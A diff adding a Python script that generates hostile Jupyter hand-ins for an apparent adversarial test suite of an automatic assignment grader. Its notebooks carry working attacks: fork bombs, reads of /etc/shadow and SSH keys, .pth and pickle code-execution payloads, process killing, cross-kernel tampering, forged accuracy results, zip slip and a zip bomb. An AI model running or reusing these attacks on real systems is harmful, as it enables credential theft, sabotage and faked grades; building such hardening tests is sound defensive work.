@@ -1,0 +1,530 @@
+"""Write the hostile hand-ins of the adversarial test suite (tests/test_adversarial.py).
+
+Run `python tests/adversarial/make_hostile.py` to regenerate them; the output is committed. Every
+notebook starts like a real "Trabajo 2" hand-in (imports, load_data, one small honest model fit on
+x_train[:2000] with validation_split=0.2, epochs=1) and then attacks the grader. File names say the
+attack; `CASES` says what each one tries and what the grader must answer.
+
+Safety: these notebooks run on a shared machine. Attacks that would hurt people other than the
+grader under test are bounded: nothing is deleted, overwritten or killed inside shared folders
+(/tmp itself, /work, /root ...), forks and spawns are capped, and every file an attack creates is
+named PWNED* so that the test can find it and remove it.
+"""
+
+from __future__ import annotations
+
+import json
+import sys
+import textwrap
+import zipfile
+from pathlib import Path
+
+import nbformat
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
+
+HERE = Path(__file__).resolve().parent
+PWNED = "pwned-adversarial"  # every file an attack tries to create outside its folder starts so
+PORTS = range(47610, 47620)  # the network attack tries these loopback ports (the test listens on one)
+# argv of the processes the fork bombs leave behind (the test looks for them once the batch is over)
+SLEEP_MARKERS = ("987.654321", "987.654322", "987.654323", "987.654324")
+SIGNATURE_MTIME = 1234567890  # the mtime write_outside stamps on the grader's files if it can
+VICTIM_MARKER = "VICTIMA-ADVERSARIAL"  # fixed text in the honest notebooks; the test adds a random one
+# Folders shared with other people's work: attacks read there, never delete/overwrite/kill there.
+SHARED_ROOTS = ("/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work", "/work/main", "/usr",
+                "/var", "/etc", "/opt", "/srv", "/run", "/proc", "/sys")
+
+CASES: dict[str, str] = {
+    "00_victim_honest": "honest notebook graded while 01_cross_neighbours attacks it",
+    "01_cross_neighbours": "for 40 s: reads, overwrites, forges and kills other kernels of the batch",
+    "timeout_infinite_loop": "while True: pass",
+    "memory_bytearray_30g": "bytearray(30 * 2**30)",
+    "memory_growing_list": "a list that grows by 64 MB until something stops it",
+    "fork_bomb": "3000 x os.fork (children exec sleep, some setsid), then 3 double-forked daemons",
+    "subprocess_spawn": "3000 x subprocess.Popen(sleep) and a nohup'ed os.system",
+    "output_flood_1gb": "1 GB through print, then 128 MB each on raw fds 1 and 2",
+    "read_secrets": "reads the canary in /root, ~/.ssh, the rubric, other hand-ins, the retrain cache",
+    "write_outside": "creates files in /tmp, ../, the reports folder, site-packages, the checkout",
+    "network_loopback": "socket.create_connection to 127.0.0.1 on the test's listening ports",
+    "probe_restore_fit": "restores the real Model.fit (functools __wrapped__) and trains on test data",
+    "probe_fake_events": "appends forged/garbage events (epochs=1e9, ../ digests, deep JSON)",
+    "probe_overwrite_npy": "overwrites the saved x arrays with zeros and y with a pickle payload",
+    "probe_lambda_payload": "a Lambda layer whose code writes a file when run outside the kernel",
+    "forged_history": "fake History(val_accuracy=0.99) and printed/saved 'val_accuracy: 0.99'",
+    "delete_files": "shutil.rmtree on its own folder and on '..'",
+    "kill_parent": "os.kill(os.getppid(), 9), the grader worker, then its own process group",
+    "kernel_exit": "os._exit(1) after the fit",
+    "kernel_segfault": "ctypes.string_at(0) after the fit",
+    "loader_malformed_json": "truncated JSON",
+    "loader_binary": "binary bytes with NULs",
+    "loader_empty": "empty file",
+    "loader_nbformat_v3": "an nbformat v3 notebook (legitimate, converted)",
+    "loader_zip_slip": "ZIP with ../ and absolute member paths",
+    "loader_zip_bomb": "ZIP whose notebook inflates to 300 MB",
+    "loader_huge": "a 21 MB notebook (written by the test, not committed)",
+    "zz_honest": "honest notebook, also graded alone for reference",
+}
+
+PREFIX = [
+    new_markdown_cell("# Trabajo 2: Aspectos prácticos de las redes neuronales"),
+    new_code_cell(textwrap.dedent("""\
+        import numpy as np
+        import keras
+        from keras.datasets import fashion_mnist
+        from keras.models import Sequential
+        from keras.layers import Dense, Flatten
+
+        (x_train, y_train), (x_test, y_test) = fashion_mnist.load_data()
+        x_train = x_train / 255.0
+        x_test = x_test / 255.0""")),
+    new_markdown_cell("## 1. Unidades de activación"),
+    new_code_cell(textwrap.dedent("""\
+        model = Sequential([
+            Flatten(input_shape=(28, 28)),
+            Dense(32, activation='relu'),
+            Dense(10, activation='softmax'),
+        ])
+        model.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])
+        history = model.fit(x_train[:2000], y_train[:2000], validation_split=0.2, epochs=1,
+                            batch_size=64, verbose=1)""")),
+]
+
+# Shared by the attacks that must not touch other people's folders.
+GUARD = f"""\
+import os
+COMPARTIDAS = {SHARED_ROOTS!r}
+def compartida(ruta):
+    return os.path.realpath(ruta) in COMPARTIDAS
+"""
+
+ATTACKS: dict[str, list[str]] = {
+    "timeout_infinite_loop": ["""\
+# Búsqueda del mejor número de neuronas (no termina nunca)
+while True:
+    pass""", "print('después del bucle')"],
+    "memory_bytearray_30g": ["buffer = bytearray(30 * 2**30)\nprint(len(buffer))"],
+    "memory_growing_list": ["""\
+datos = []
+while True:
+    datos.append(bytearray(64 * 2**20))"""],
+    "fork_bomb": ["""\
+import os
+hijos = []
+for i in range(3000):
+    pid = os.fork()
+    if pid == 0:
+        if i % 100 == 0:
+            os.setsid()  # escapa del grupo de procesos del kernel
+        os.execv('/bin/sleep', ['sleep', '987.654321'])
+    hijos.append(pid)
+print(len(hijos), 'procesos')""", """\
+import os
+for _ in range(3):  # demonio con doble fork: el nieto queda huérfano, fuera del árbol del kernel
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execv('/bin/sleep', ['sleep', '987.654324'])
+        os._exit(0)
+print('demonios lanzados')"""],
+    "subprocess_spawn": ["""\
+import os, subprocess
+procesos = []
+for i in range(3000):
+    procesos.append(subprocess.Popen(['sleep', '987.654322'], start_new_session=(i % 100 == 0)))
+os.system('nohup sleep 987.654323 > /dev/null 2>&1 &')
+print(len(procesos), 'procesos')"""],
+    "output_flood_1gb": ["""\
+linea = 'x' * (2**20 - 1)
+for _ in range(1024):
+    print(linea)""", """\
+import os
+bloque = b'y' * 2**20
+for _ in range(128):
+    os.write(1, bloque)
+    os.write(2, bloque)"""],
+    "read_secrets": ["""\
+import glob, os, site, sys
+objetivos = glob.glob('/root/.grader_canary*') + glob.glob('/root/*') + glob.glob('/root/.ssh/*')
+objetivos += glob.glob(os.path.expanduser('~/.ssh/*')) + ['/etc/shadow', '/proc/1/environ']
+for base in site.getsitepackages() + sys.path + ['/work/main', '/work']:
+    objetivos += glob.glob(os.path.join(base, 'grader', 'rubrics', '*.yaml'))
+    objetivos += glob.glob(os.path.join(base, 'rubrics', '*.yaml'))
+d = os.getcwd()
+for _ in range(6):  # otras entregas, resultados y la caché del corrector, subiendo de carpeta
+    for patron in ('*.ipynb', '*/*.ipynb', '*/*/*.ipynb', '.cache/**/*', '*/trace.json',
+                   'results/*.json', 'extracted/**/*.ipynb', 'gradebook.sqlite'):
+        objetivos += glob.glob(os.path.join(d, patron), recursive=True)
+    d = os.path.dirname(d)
+for base in ('/tmp', '/var/tmp', '/dev/shm', '/work'):
+    for nivel in ('/*/', '/*/*/', '/*/*/*/'):
+        objetivos += glob.glob(base + nivel + '*.ipynb') + glob.glob(base + nivel + '*.json')
+botin = {}
+for ruta in dict.fromkeys(objetivos):
+    try:
+        with open(ruta, 'rb') as f:
+            botin[ruta] = f.read(4000).decode('utf-8', 'replace')
+    except Exception:
+        pass
+for ruta, texto in botin.items():
+    print('==', ruta)
+    print(texto)
+raise RuntimeError('LEÍDO: ' + repr(botin))"""],
+    "write_outside": [GUARD + f"""\
+import glob, site, sys
+intentos = ['/tmp/{PWNED}', '/var/tmp/{PWNED}', '/dev/shm/{PWNED}', '../{PWNED}', '../../{PWNED}',
+            '../../../{PWNED}', os.path.expanduser('~/{PWNED}'), '/root/{PWNED}', '/work/main/{PWNED}']
+d = os.getcwd()
+for _ in range(6):  # la carpeta de informes: results/, logs/, .cache/, work/ de algún padre
+    for nombre in ('results', 'reports', 'logs', '.cache', 'work', 'extracted'):
+        if os.path.isdir(os.path.join(d, nombre)):
+            intentos.append(os.path.join(d, nombre, '{PWNED}'))
+    intentos.append(os.path.join(d, '{PWNED}.html'))
+    d = os.path.dirname(d)
+for base in site.getsitepackages() + sys.path:  # código que Python ejecutaría al arrancar
+    if os.path.isdir(base):
+        intentos.append(os.path.join(base, '{PWNED}.pth'))
+    for sub in ('grader', 'grader/rubrics', 'rubrics'):
+        if os.path.isdir(os.path.join(base, sub)):
+            intentos.append(os.path.join(base, sub, '{PWNED}.py'))
+for ruta in ('/work/main/grader/pipeline.py', '/work/main/rubrics/trabajo2.yaml'):
+    try:
+        os.utime(ruta, ({SIGNATURE_MTIME}, {SIGNATURE_MTIME}))  # basta con permiso de escritura
+        print('fecha cambiada:', ruta)
+    except OSError as e:
+        print('no', ruta, e)
+escritos = []
+for ruta in dict.fromkeys(intentos):
+    try:
+        with open(ruta, 'x') as f:
+            f.write('# {PWNED}\\n')
+        escritos.append(ruta)
+    except OSError as e:
+        print('no', ruta, type(e).__name__)
+print('escritos:', escritos)"""],
+    "network_loopback": [f"""\
+import socket
+conectado, ultimo = [], None
+for puerto in {list(PORTS)!r}:
+    try:
+        s = socket.create_connection(('127.0.0.1', puerto), timeout=2)
+        s.sendall(b'{PWNED}')
+        s.close()
+        conectado.append(puerto)
+    except OSError as e:
+        ultimo = e
+print('conectado a', conectado)
+if not conectado:
+    raise ConnectionError(f'sin red: {{ultimo!r}}')"""],
+    "probe_restore_fit": ["""\
+import sys
+import keras
+# El corrector cambia Model.fit por una versión que no entrena: recupero la original.
+original = keras.Model.fit
+while hasattr(original, '__wrapped__'):
+    original = original.__wrapped__
+keras.Model.fit = original
+for nombre in [m for m in sys.modules if 'probe' in m or m.startswith('grader')]:
+    del sys.modules[nombre]
+modelo_oculto = Sequential([Flatten(input_shape=(28, 28)), Dense(64, activation='relu'),
+                            Dense(10, activation='softmax')])
+modelo_oculto.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])
+h = modelo_oculto.fit(x_train[:2000], y_train[:2000], validation_data=(x_test, y_test), epochs=1,
+                      verbose=0)
+print('val_accuracy (con test):', h.history['val_accuracy'])"""],
+    "probe_fake_events": ["""\
+import glob, json, os, sys
+sonda = sys.modules.get('grader_probe')
+rutas = []
+if sonda is not None and getattr(sonda, '_probe', None) is not None:
+    rutas.append(sonda._probe.events.name)
+for fd in os.listdir('/proc/self/fd'):
+    try:
+        destino = os.readlink('/proc/self/fd/' + fd)
+    except OSError:
+        continue
+    if destino.endswith('.jsonl'):
+        rutas.append(destino)
+rutas += glob.glob(os.path.join(os.getcwd(), '**', '*.jsonl'), recursive=True)
+rutas = list(dict.fromkeys(rutas))
+print('eventos:', rutas)
+def falsear(o, cambios):
+    if isinstance(o, dict):
+        return {k: cambios[k] if k in cambios else falsear(v, cambios) for k, v in o.items()}
+    if isinstance(o, list):
+        return [falsear(v, cambios) for v in o]
+    return o
+for ruta in rutas:
+    with open(ruta, encoding='utf-8') as f:
+        eventos = [json.loads(l) for l in f if l.strip()]
+    ajuste = next(e for e in eventos if e.get('event') == 'fit')
+    falsos = [
+        falsear(ajuste, {'epochs': 10**9}),
+        falsear(ajuste, {'digest': '../../../../../../etc/passwd'}),
+        falsear(ajuste, {'digest': '/etc/passwd'}),
+        falsear(ajuste, {'model_id': 'x' * 1000, 'validation_split': 'mucho'}),
+        falsear(ajuste, {'history': {'val_accuracy': [0.99]}, 'val_accuracy': 0.99}),
+    ]
+    with open(ruta, 'a', encoding='utf-8') as f:
+        for e in falsos:
+            f.write(json.dumps(e) + '\\n')
+        f.write('esto no es JSON\\n')
+        f.write('{"event": "fit"}\\n')
+        f.write('[' * 100000 + '\\n')
+        f.write('{"event": "fit", "relleno": "' + 'z' * (8 * 2**20) + '"}\\n')
+print('eventos falsos escritos')"""],
+    "probe_overwrite_npy": ["""\
+import glob, os, sys
+sonda = sys.modules.get('grader_probe')
+carpetas = [os.getcwd()]
+if sonda is not None and getattr(sonda, '_probe', None) is not None:
+    carpetas.insert(0, sonda._probe.arrays_dir)
+class Trampa:
+    def __reduce__(self):
+        return (open, ('/tmp/""" + PWNED + """-pickle', 'w'))
+cambiados = []
+for carpeta in carpetas:
+    for ruta in glob.glob(os.path.join(carpeta, '**', '*.npy'), recursive=True):
+        arr = np.load(ruta)
+        if arr.ndim >= 2:
+            np.save(ruta, np.zeros_like(arr))  # las imágenes: todo ceros
+        else:  # las etiquetas: un pickle que abre un fichero al cargarse con allow_pickle=True
+            np.save(ruta, np.array([Trampa()] * len(arr), dtype=object), allow_pickle=True)
+        cambiados.append(ruta)
+print('sobrescritos:', cambiados)"""],
+    "probe_lambda_payload": [f"""\
+from keras.layers import Lambda
+def _carga(t):
+    import sys
+    if 'ipykernel' not in sys.modules:  # fuera del kernel: en el proceso del corrector
+        import pathlib
+        pathlib.Path('/tmp/{PWNED}-lambda').touch()
+    return t
+modelo_lambda = Sequential([
+    Flatten(input_shape=(28, 28)),
+    Dense(32, activation='relu'),
+    Lambda(lambda t: (__import__('pathlib').Path('/tmp/{PWNED}-lambda').touch()
+                      if 'ipykernel' not in __import__('sys').modules else None, t)[1]),
+    Lambda(_carga),
+    Dense(10, activation='softmax'),
+])
+modelo_lambda.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])
+h2 = modelo_lambda.fit(x_train[:2000], y_train[:2000], validation_split=0.2, epochs=1, verbose=0)"""],
+    "forged_history": ["""\
+import keras
+history = keras.callbacks.History()
+history.history = {'loss': [0.05], 'accuracy': [0.99], 'val_loss': [0.05], 'val_accuracy': [0.99]}
+history.epoch = [0]
+model.history = history
+print('Epoch 1/1 - loss: 0.0500 - accuracy: 0.9900 - val_loss: 0.0500 - val_accuracy: 0.9900')
+print('Test accuracy: 0.99')"""],
+    "delete_files": [GUARD + """\
+import shutil
+aqui = os.getcwd()
+padre = os.path.dirname(os.path.realpath(aqui))
+shutil.rmtree(aqui, ignore_errors=True)
+if compartida(padre):
+    print('carpeta compartida, no la borro:', padre)
+else:
+    shutil.rmtree(padre, ignore_errors=True)
+print('sigue existiendo:', os.path.exists(aqui), os.path.exists(padre))"""],
+    "kill_parent": ["""\
+import os, signal
+def orden(pid):
+    try:
+        with open(f'/proc/{pid}/cmdline', 'rb') as f:
+            return f.read().replace(b'\\0', b' ').decode(errors='replace')
+    except OSError:
+        return ''
+def padre_de(pid):
+    with open(f'/proc/{pid}/stat') as f:
+        return int(f.read().rsplit(')', 1)[1].split()[1])
+objetivos, pid = [os.getppid()], os.getppid()
+for _ in range(4):  # el proceso del corrector que lanzó este kernel
+    pid = padre_de(pid)
+    if pid > 1 and 'grader.worker' in orden(pid):
+        objetivos.append(pid)
+for pid in objetivos:
+    try:
+        os.kill(pid, signal.SIGKILL)
+        print('matado', pid, orden(pid))
+    except OSError as e:
+        print('no', pid, e)
+os.killpg(os.getpgid(0), signal.SIGKILL)"""],
+    "kernel_exit": ["import os\nos._exit(1)"],
+    "kernel_segfault": ["import ctypes\nctypes.string_at(0)"],
+}
+
+# Runs BEFORE the prefix, so that it overlaps the whole life of 00_victim_honest's kernel. It finds
+# the victim's kernel through /proc (same uid: cwd and open fds are visible), overwrites the arrays
+# and appends events through its open events file, then kills it. Only a kernel whose folder holds
+# VICTIM_MARKER, in a workspace beside this one, and never under a shared folder, is touched.
+CROSS = GUARD + f"""\
+import glob, json, signal, time
+aqui = os.path.realpath(os.getcwd())
+raiz_lote = os.path.dirname(os.path.dirname(aqui))  # TMPDIR/<workspace>/<work>
+def orden(pid):
+    try:
+        with open(f'/proc/{{pid}}/cmdline', 'rb') as f:
+            return f.read().replace(bytes(1), b' ').decode(errors='replace')
+    except OSError:
+        return ''
+def vecinos():
+    for pid in filter(str.isdigit, os.listdir('/proc')):
+        if int(pid) == os.getpid() or 'ipykernel' not in orden(pid):
+            continue
+        try:
+            cwd = os.path.realpath(os.readlink(f'/proc/{{pid}}/cwd'))
+        except OSError:
+            continue
+        if os.path.dirname(os.path.dirname(cwd)) != raiz_lote or compartida(raiz_lote):
+            continue
+        yield int(pid), cwd
+vistos, botin, tocados, matados = set(), {{}}, [], []
+fin = time.time() + 40
+while time.time() < fin:
+    for pid, cwd in vecinos():
+        vistos.add(pid)
+        textos = {{}}
+        for ruta in glob.glob(os.path.join(cwd, '*.ipynb')) + glob.glob(os.path.join(cwd, '*.py')):
+            try:
+                with open(ruta, encoding='utf-8', errors='replace') as f:
+                    textos[ruta] = f.read()
+            except OSError:
+                pass
+        botin.update(textos)
+        if not any({VICTIM_MARKER!r} in t for t in textos.values()):
+            continue
+        for fd in os.listdir(f'/proc/{{pid}}/fd'):
+            try:
+                destino = os.readlink(f'/proc/{{pid}}/fd/{{fd}}')
+            except OSError:
+                continue
+            if not destino.endswith('events.jsonl'):
+                continue
+            with open(f'/proc/{{pid}}/fd/{{fd}}', encoding='utf-8', errors='replace') as f:
+                hay_fit = '"fit"' in f.read()
+            if not hay_fit:
+                continue
+            for npy in glob.glob(os.path.join(os.path.dirname(destino), 'arrays', '*.npy')):
+                try:
+                    with open(npy, 'r+b') as f:
+                        f.seek(128)
+                        f.write(bytes(4096))
+                    tocados.append(npy)
+                except OSError:
+                    pass
+            try:
+                with open(destino, 'a') as f:
+                    f.write(json.dumps({{'event': 'fit', 'model_id': 1, 'epochs': 10**9}}) + chr(10))
+                tocados.append(destino)
+                os.kill(pid, signal.SIGKILL)
+                matados.append(pid)
+            except OSError as e:
+                print('no', pid, e)
+    time.sleep(0.25)
+print('kernels vistos:', sorted(vistos))
+print('tocados:', tocados)
+print('matados:', matados)
+print('leídos:', json.dumps(botin)[:200000])"""
+
+HONEST_TAIL = [
+    new_code_cell(textwrap.dedent(f"""\
+        # {VICTIM_MARKER}
+        import matplotlib.pyplot as plt
+        plt.plot(history.history['accuracy'], label='train')
+        plt.plot(history.history['val_accuracy'], label='val')
+        plt.legend()
+        plt.show()""")),
+    new_markdown_cell("## 4. Regularización y red final\nLa red final es la de arriba; la evalúo una vez en test."),
+    new_code_cell("print(model.evaluate(x_test, y_test, verbose=0))"),
+]
+
+
+def notebook(cells: list) -> nbformat.NotebookNode:
+    nb = new_notebook(cells=[nbformat.from_dict(c) for c in cells])
+    for i, cell in enumerate(nb.cells):  # fixed ids: regenerating gives the same bytes
+        cell.id = f"cell-{i}"
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    return nb
+
+
+def hostile_notebooks() -> dict[str, nbformat.NotebookNode]:
+    out = {name: notebook(PREFIX + [new_code_cell(src) for src in cells]) for name, cells in ATTACKS.items()}
+    out["01_cross_neighbours"] = notebook([PREFIX[0], new_code_cell(CROSS), *PREFIX[1:]])
+    forged = out["forged_history"]
+    forged.cells[-1].outputs = [new_output("stream", name="stdout", text=(
+        "Epoch 1/1 - loss: 0.0500 - accuracy: 0.9900 - val_loss: 0.0500 - val_accuracy: 0.9900\n"
+        "Test accuracy: 0.99\n"))]
+    forged.cells.append(new_markdown_cell("Mi red final alcanza un **99 %** de accuracy en validación."))
+    forged.cells[-1].id = f"cell-{len(forged.cells) - 1}"
+    honest = notebook(PREFIX + HONEST_TAIL)
+    out["00_victim_honest"] = honest
+    out["zz_honest"] = honest
+    return out
+
+
+def nbformat_v3() -> dict:
+    """A legitimate 2015-era notebook (worksheets, `input`, `language`)."""
+    code = PREFIX[1].source.replace("import keras\n", "")
+    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": [
+        {"cell_type": "heading", "level": 1, "metadata": {}, "source": "Trabajo 2"},
+        {"cell_type": "code", "language": "python", "collapsed": False, "metadata": {},
+         "input": code, "outputs": [], "prompt_number": 1},
+    ], "metadata": {}}]}
+
+
+FIXED_DATE = (2020, 1, 1, 0, 0, 0)  # ZIPs are byte-for-byte reproducible
+
+
+def zip_slip(path: Path) -> None:
+    good = nbformat.writes(notebook(PREFIX))
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name in ("trabajo2.ipynb", f"../../{PWNED}-zip.ipynb", f"/tmp/{PWNED}-zip-abs.ipynb"):
+            info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
+            info.compress_type = zipfile.ZIP_DEFLATED
+            zf.writestr(info, good)
+
+
+def zip_bomb(path: Path, inflated: int = 300 * 2**20) -> None:
+    """One member that inflates to `inflated` bytes of spaces (ratio ~1000:1)."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        info = zipfile.ZipInfo("trabajo2.ipynb", date_time=FIXED_DATE)
+        info.compress_type = zipfile.ZIP_DEFLATED
+        with zf.open(info, "w", force_zip64=True) as member:
+            block = b" " * 2**20
+            for _ in range(inflated // len(block)):
+                member.write(block)
+
+
+def huge_notebook(path: Path, size: int = 21 * 2**20) -> None:
+    """A valid notebook over the 20 MB load limit (a saved output full of base64 'images')."""
+    nb = notebook(PREFIX)
+    nb.cells[-1].outputs = [new_output("display_data", data={"image/png": "A" * size})]
+    path.write_text(nbformat.writes(nb), encoding="utf-8")
+
+
+def write_all(folder: Path = HERE) -> list[Path]:
+    """Write every committed hostile hand-in into `folder`; returns the paths written."""
+    folder.mkdir(parents=True, exist_ok=True)
+    written = []
+    for name, nb in hostile_notebooks().items():
+        path = folder / f"{name}.ipynb"
+        path.write_text(nbformat.writes(nb), encoding="utf-8")
+        written.append(path)
+    loaders = {
+        "loader_malformed_json.ipynb": b'{"cells": [{"cell_type": "code", "source": "print(1)"',
+        "loader_binary.ipynb": bytes(range(256)) * 64,
+        "loader_empty.ipynb": b"",
+        "loader_nbformat_v3.ipynb": json.dumps(nbformat_v3(), indent=1).encode(),
+    }
+    for name, data in loaders.items():
+        (folder / name).write_bytes(data)
+        written.append(folder / name)
+    zip_slip(folder / "loader_zip_slip.zip")
+    zip_bomb(folder / "loader_zip_bomb.zip")
+    written += [folder / "loader_zip_slip.zip", folder / "loader_zip_bomb.zip"]
+    return written
+
+
+if __name__ == "__main__":
+    for p in write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE):
+        print(f"{p.stat().st_size:>9}  {p.name}")
